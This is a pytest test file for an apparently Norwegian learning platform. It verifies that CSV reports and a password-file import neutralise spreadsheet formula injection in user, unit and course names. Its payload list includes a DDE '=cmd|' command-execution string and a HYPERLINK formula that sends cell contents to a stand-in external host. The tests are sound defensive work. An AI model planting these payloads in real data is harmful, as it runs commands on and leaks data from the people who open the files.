"""A file that is opened in a spreadsheet holds no formula, whatever people, units and courses are called."""

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session

from learning.accounts.models import User
from learning.courses.models import CourseVersion
from learning.reports.queries.reports import REPORTS
from learning.units.models import Unit
from tests.attacks.conftest import Send
from tests.attacks.world import World
from tests.commands.conftest import Run

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example?x="&A1,"klikk")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '"=1+1"',
    '";=1+1;"',
    "a\n=1+1",
    "a;=1+1",
    "'=1+1",
    " =1+1",
]
SIGNS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def cells_of(text: str, separator: str) -> list[str]:
    """Return all cells of the file as a spreadsheet reads it."""
    return [
        cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=separator) for cell in row
    ]


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_any_report_is_a_formula(session: Session, ask: Send, world: World, name: str):
    for column in (User.display_name, Unit.name, CourseVersion.title):
        session.execute(update(column.class_).values({column.key: name}))
    for report in REPORTS:
        for words, separator in (("", ";"), ("?separator=comma", ",")):
            status, _headers, text = ask("leader", "GET", f"/enhet/{world.own_unit.id}/{report.name}.csv{words}")

            cells = cells_of(text, separator) if status == 200 else []

            assert [cell for cell in cells if cell.startswith(SIGNS)] == []
    text = ask("leader", "GET", f"/enhet/{world.own_unit.id}/people.csv")[2]
    assert {name, f"'{name}"} & set(cells_of(text, ";"))


@pytest.mark.parametrize("name", ["=1+1", "+kari", "-kari", "@kari", "\uff1d1", "=cmd|'/C'!A0"])
def test_no_user_name_in_the_file_of_passwords_is_a_formula(run: Run, tmp_path: Path, name: str):
    (tmp_path / "units.csv").write_text("code;parent;kind;name\nk;;kommune;Eksempel\n", encoding="utf-8")
    people = f'code;name;unit;role;username\n1;Eva Li;k;leder;"{name}"\n'
    (tmp_path / "people.csv").write_text(people, encoding="utf-8")
    words = ("import", tmp_path / "units.csv", tmp_path / "people.csv", "--apply")

    result = run(*words, "--passwords", tmp_path / "passwords.csv")

    assert result.exit_code == 1
    assert "Brukernavnet" in result.output
    assert not (tmp_path / "passwords.csv").exists()
